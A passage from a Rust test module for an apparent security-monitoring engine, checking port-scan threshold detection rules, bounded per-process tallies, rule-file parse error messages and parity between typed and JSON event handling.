                    connect(
                        100,
                        1001,
                        &chain,
                        &v6,
                        443,
                        if host % 3 == 0 {
                            "unreachable"
                        } else {
                            "established"
                        },
                    ),
                    connect(100, 1001, &chain, &addr, 443, "established"),
                ],
            ));
        }
        assert!(ids.iter().all(|r| !r.starts_with("EW-SCAN")), "{ids:?}");
    }

    #[test]
    fn tracked_lineages_are_bounded_and_drops_counted() {
        let mut e = builtin();
        let chain = [(70, "/usr/bin/bash"), INIT];
        // One failed connect from each of many short-lived processes (pids
        // above the kernel's limit: none can be this test's own, which the
        // engine ignores as the monitor's).
        for pid in 0..(super::super::TALLIES_MAX as u64 + 500) {
            e.take(&connect(
                1,
                4_200_000 + pid,
                &chain,
                "127.0.0.1",
                1,
                "refused",
            ));
        }
        assert!(e.tallies.len() <= super::super::TALLIES_MAX);
        assert!(e.tally_order.len() <= 2 * super::super::TALLIES_MAX);
        assert!(
            e.stats
                .threshold_dropped
                .get("EW-SCAN-001")
                .is_some_and(|n| *n >= 500),
            "{:?}",
            e.stats.threshold_dropped
        );
        // Past the window the ended ones are swept, not counted as drops.
        let before = e.stats.threshold_dropped.get("EW-SCAN-001").copied();
        for pid in 0..100 {
            e.take(&connect(
                100,
                50_000 + pid,
                &chain,
                "127.0.0.1",
                1,
                "refused",
            ));
        }
        assert_eq!(
            e.stats.threshold_dropped.get("EW-SCAN-001").copied(),
            before
        );
    }

    /// Rules as a file would write them, with a threshold table.
    fn parse(threshold: &str) -> Result<Vec<rule::Rule>, rule::RuleError> {
        let text = format!(
            "[[rule]]\nid = \"T-1\"\ntitle = \"t\"\nseverity = \"low\"\nkinds = [\"connect_result\"]\n[rule.threshold]\n{threshold}"
        );
        rule::parse(&Source {
            name: "t.toml",
            text: &text,
        })
    }

    #[test]
    fn threshold_errors_name_the_file_rule_and_field() {
        let ok = "within_secs = 30\ndistinct = [\"remote.addr\", \"remote.port\"]\ncount = 5\n";
        assert!(parse(ok).is_ok(), "{:?}", parse(ok).err());
        let cases = [
            ("within_secs = 0\ndistinct = \"remote.addr\"\ncount = 5\n", "t.toml:7:15: rule T-1: threshold within_secs must be at least 1"),
            ("within_secs = 3\ndistinct = \"remote.addr\"\ncount = 0\n", "t.toml:9:9: rule T-1: threshold count must be 1 to 1024, not 0"),
            ("within_secs = 3\ndistinct = \"remote.adr\"\ncount = 5\n", "t.toml:8:12: rule T-1: threshold distinct: unknown field \"remote.adr\""),
            ("within_secs = 3\ndistinct = \"applet\"\ncount = 5\nmin_categories = 2\n", "t.toml:10:18: rule T-1: threshold min_categories needs categories"),
            ("within_secs = 3\ndistinct = \"applet\"\ncount = 5\nshare = { match = [{ field = \"result\", equals = \"refused\" }], at_least = 1.5 }\n", "rule T-1: threshold share at_least must be above 0 and at most 1, not 1.5"),
            ("within_secs = 3\ndistinct = \"applet\"\ncount = 5\ncategories = [{ name = \"a\", match = [{ field = \"applet\", equals = \"x\" }] }, { name = \"a\", match = [{ field = \"applet\", equals = \"y\" }] }]\n", "category \"a\" is defined twice"),
            ("within_secs = 3\ndistinct = []\ncount = 5\n", "distinct needs a field"),
            ("within_secs = 3\ndistinct = \"applet\"\ncount = 5\nby = \"host\"\n", "t.toml:10:6: unknown variant `host`"),
            ("within_secs = 3\ncount = 5\n", "missing field `distinct`"),
            ("within_secs = 3\ndistinct = \"applet\"\ncount = 5\nbogus = 1\n", "t.toml:10:1: unknown field `bogus`"),
        ];
        for (spec, want) in cases {
            let err = parse(spec).expect_err(spec).to_string();
            assert!(err.contains(want), "{spec}: {err}");
            assert!(err.starts_with("t.toml:"), "{err}");
        }
        let both = "[[rule]]\nid = \"T-2\"\ntitle = \"t\"\nseverity = \"low\"\n[rule.sequence]\nwithin_secs = 5\nsteps = [{ kinds = [\"exec\"] }, { kinds = [\"exec\"] }]\n[rule.threshold]\nwithin_secs = 3\ndistinct = \"applet\"\ncount = 2\n";
        let err = rule::parse(&Source {
            name: "t.toml",
            text: both,
        })
        .expect_err("both");
        assert!(
            err.to_string()
                .contains("rule T-2: a rule has a sequence or a threshold, not both"),
            "{err}"
        );
    }

    /// A threshold rule of a user's: distinct values of one field, by
    /// lineage, without categories or share; typed records and their JSON
    /// form raise the same alerts.
    #[test]
    fn a_plain_threshold_counts_distinct_values_in_typed_and_json_form() {
        let text = "[[rule]]\nid = \"T-3\"\ntitle = \"t\"\nseverity = \"low\"\nattack = [\"T1046\"]\nkinds = [\"connect_result\"]\ndedup_secs = 0\n[rule.threshold]\nwithin_secs = 10\ndistinct = \"remote.port\"\ncount = 3\n";
        let rules = rule::parse(&Source {
            name: "t.toml",
            text,
        })
        .expect("rule");
        let chain = [(70, "/usr/bin/bash"), INIT];
        let events: Vec<Value> = [1u16, 2, 2, 1, 3, 4, 5, 6, 7]
            .iter()
            .enumerate()
            .map(|(n, p)| connect(n as u64, 1200, &chain, "127.0.0.1", *p, "established"))
            .collect();
        let mut typed = Engine::new(rules.clone());
        let mut plain = Engine::new(rules);
        let mut a = Vec::new();
        let mut b = Vec::new();
        for ev in &events {
            a.extend(typed.take(ev));
            b.extend(plain.observe(ev));
        }
        assert_eq!(a, b);
        // Ports 1, 2, 3 make it at the fifth event; within its 10 s quiet
        // time 4..7 fold into it.
        assert_eq!(a.len(), 1, "{a:?}");
        assert_eq!(a[0].evidence.len(), 3);
        assert_eq!(a[0].evidence[2]["remote"]["port"], 3);
    }

    /// The README's threshold example is a valid rule.
    #[test]
    fn readme_threshold_example_loads() {
        let readme = include_str!("../../../README.md");
        let start = readme.find("id = \"LOCAL-003\"").expect("example");
        let start = readme[..start].rfind("```toml\n").expect("fence") + 8;
        let end = start + readme[start..].find("```").expect("end");
        let rules = rule::parse(&Source {
            name: "README.md",
            text: &readme[start..end],
        })
        .expect("the example loads");
        let t = rules[0].threshold.as_ref().expect("threshold");
        assert_eq!((t.count, t.within_secs, t.distinct.len()), (20, 30, 2));
    }
}
